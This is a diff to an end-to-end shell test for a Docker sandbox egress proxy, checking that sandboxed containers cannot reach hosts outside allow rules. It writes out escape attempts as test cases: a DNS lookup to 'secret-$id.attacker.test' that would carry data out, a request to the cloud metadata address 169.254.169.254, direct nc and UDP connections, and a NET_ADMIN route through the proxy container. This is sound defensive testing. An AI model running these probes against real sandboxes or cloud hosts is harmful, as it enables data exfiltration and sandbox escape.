@@ -2,9 +2,10 @@
 # run --allow-host against a local "internet" the suite makes: web servers on a network of their
 # own under several names. The sandbox reaches only what the rules allow, through the proxy;
 # a denied name, a port outside the rule, a name that resolves to loopback, a direct connection
-# (TCP and UDP) and a DNS lookup all fail; each decision is a line of --egress-log and the summary
-# counts them; run --check reports the same from inside; nothing is left behind (proxy, network,
-# image aside).
+# (TCP and UDP) and a DNS lookup all fail; a sandbox with NET_ADMIN cannot route through the proxy's
+# container, and a neighbour on the egress network cannot use the proxy; each decision is a line of
+# --egress-log and the summary counts them; run --check reports the same from inside; nothing is
+# left behind (proxy, network, image aside).
 source "$(dirname "$0")/common.sh"
 
 id=$$$RANDOM
@@ -30,11 +31,13 @@ if engine_is_podman; then
 fi
 
 mkdir project && cd project
-sandbox() { # RULES... -- COMMAND: one run with its egress log in $TEST_DIR/log
+sandbox() { # RULES... -- COMMAND [FLAGS...]: one run with its egress log in $TEST_DIR/log
   local rules=()
   while [ "$1" != -- ]; do rules+=(--allow-host "$1"); shift; done
   shift
-  run_capture docker sandbox run "${rules[@]}" --egress-network "$net" --egress-log "$TEST_DIR/log" "$IMAGE" sh -c "$1"
+  local command=$1
+  shift
+  run_capture docker sandbox run "${rules[@]}" "$@" --egress-network "$net" --egress-log "$TEST_DIR/log" "$IMAGE" sh -c "$command"
   log=$(cat "$TEST_DIR/log" 2>/dev/null || true)
 }
 
@@ -75,13 +78,66 @@ expect_eq "$rc" 0 "a CONNECT tunnel ($err)"
 expect_contains "$out" "HTTP/1.1 200 Connection established" "the tunnel"
 expect_contains "$out" "hello-from-web" "what came through it"
 
-# Around the proxy: the allowed address itself, directly, over TCP and UDP; a DNS lookup of a name
-# that would carry a secret out; the metadata address.
-sandbox "$rule" -- "! nc -w 3 $web_ip 80 </dev/null && ! echo x | nc -u -w 1 $web_ip 53 2>/dev/null; \
+# A UDP listener on the egress network (the Debian image's python3: busybox's nc has no UDP), which
+# prints every datagram it gets; a plain container's datagram reaches it (the control).
+debian=docker-sandbox-debian:latest
+bash "$SANDBOX_SOURCE_DIR/tests/tools/make-debian-image.sh" "$debian" >/dev/null
+listener=sbx-e2e-udp-$id
+on_exit "docker rm -f $listener >/dev/null 2>&1"
+docker run -d --name "$listener" --network "$net" "$debian" python3 -u -c "import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(('0.0.0.0', 53))
+print('listening', flush=True)
+while True:
+    print('got', s.recvfrom(512)[0], flush=True)" >/dev/null
+listener_ip=$(docker inspect -f "{{(index .NetworkSettings.Networks \"$net\").IPAddress}}" "$listener")
+for _ in $(seq 50); do docker logs "$listener" 2>&1 | grep -q listening && break; sleep 0.2; done
+docker run --rm --network "$net" "$IMAGE" sh -c "nslookup control-$id.test $listener_ip >/dev/null 2>&1; true"
+for _ in $(seq 25); do docker logs "$listener" 2>&1 | grep -q "control-$id" && break; sleep 0.2; done
+expect_contains "$(docker logs "$listener" 2>&1)" "control-$id" "a plain container's datagram reaches the listener (the control)"
+
+# Around the proxy: the allowed address itself, directly, over TCP and UDP (a DNS query sent to the
+# listener); a DNS lookup of a name that would carry a secret out; the metadata address.
+sandbox "$rule" -- "! nc -w 3 $web_ip 80 </dev/null && ! nslookup direct-$id.test $listener_ip >/dev/null 2>&1; \
   ! nslookup secret-$id.attacker.test >/dev/null 2>&1 && ! wget -qO- http://169.254.169.254/ >/dev/null 2>&1; echo done"
 expect_eq "$rc" 0 "the direct attempts ($err)"
 expect_eq "$out" done "every direct attempt failed"
 expect_contains "$err" "egress: 0 allowed, 1 denied (169.254.169.254:80)" "only the proxy saw the metadata request"
+
+# Through the proxy's container as a router: a sandbox given NET_ADMIN routes its packets to the
+# proxy's address. The proxy's namespace would inherit the host's ip_forward=1 and pass them on to
+# the egress network (one way: nothing routes the replies back, so a datagram is what gets out);
+# the plugin sets it to 0, and the proxy refuses to run where it is not.
+sandbox "$rule" -- "ip route add default via \$(awk '/docker-sandbox-egress/ {print \$1; exit}' /etc/hosts) && \
+  nslookup routed-$id.test $listener_ip >/dev/null 2>&1; ip route | grep -c default" --user 0:0 --cap-add NET_ADMIN
+expect_eq "$out" 1 "the sandbox routed through the proxy ($err)"
+sleep 1
+case "$(docker logs "$listener" 2>&1)" in *"direct-$id"* | *"routed-$id"*) fail "a datagram got past the proxy: $(docker logs "$listener" 2>&1)" ;; esac
+
+# The proxy's own walls, read while a sandbox runs: it listens on the internal network alone (a
+# neighbour on the egress network is refused there, where the web server answers it), its namespace
+# forwards nothing, and it looks names up with no search domain.
+docker sandbox run --allow-host "$rule" --egress-network "$net" "$IMAGE" sleep 10 >/dev/null 2>&1 &
+runner=$!
+on_exit "kill $runner 2>/dev/null; wait $runner 2>/dev/null; docker network rm $net >/dev/null 2>&1"
+proxy=""
+for _ in $(seq 100); do
+  proxy=$(docker ps -q --filter label=docker-sandbox.role=egress-proxy --filter status=running | head -1)
+  [ -z "$proxy" ] || break
+  sleep 0.1
+done
+[ -n "$proxy" ] || fail "no proxy ran"
+proxy_ip=$(docker inspect -f "{{(index .NetworkSettings.Networks \"$net\").IPAddress}}" "$proxy")
+[ -n "$proxy_ip" ] || fail "the proxy has no address on the egress network $net"
+reached=$(docker run --rm --network "$net" "$IMAGE" sh -c "wget -qO- http://$web_ip/; \
+  printf 'GET http://$host/ HTTP/1.0\r\n\r\n' | nc -w 2 $proxy_ip 3128 2>/dev/null" 2>&1 || true)
+expect_eq "$reached" hello-from-web "a neighbour on the egress network reaches the web server, not the proxy at $proxy_ip"
+pid=$(docker inspect -f '{{.State.Pid}}' "$proxy")
+expect_eq "$(nsenter -t "$pid" -n cat /proc/sys/net/ipv4/ip_forward)" 0 "the proxy's namespace forwards nothing"
+if grep -q '^search' "/proc/$pid/root/etc/resolv.conf"; then
+  fail "the proxy looks names up under search domains: $(cat "/proc/$pid/root/etc/resolv.conf")"
+fi
+wait "$runner" || fail "the sleeping sandbox failed"
 
 # The engine host: a service of its own listening on all addresses (in a container on the host's
 # network, so on whichever host the engine runs), which a plain container on a bridge reaches at its
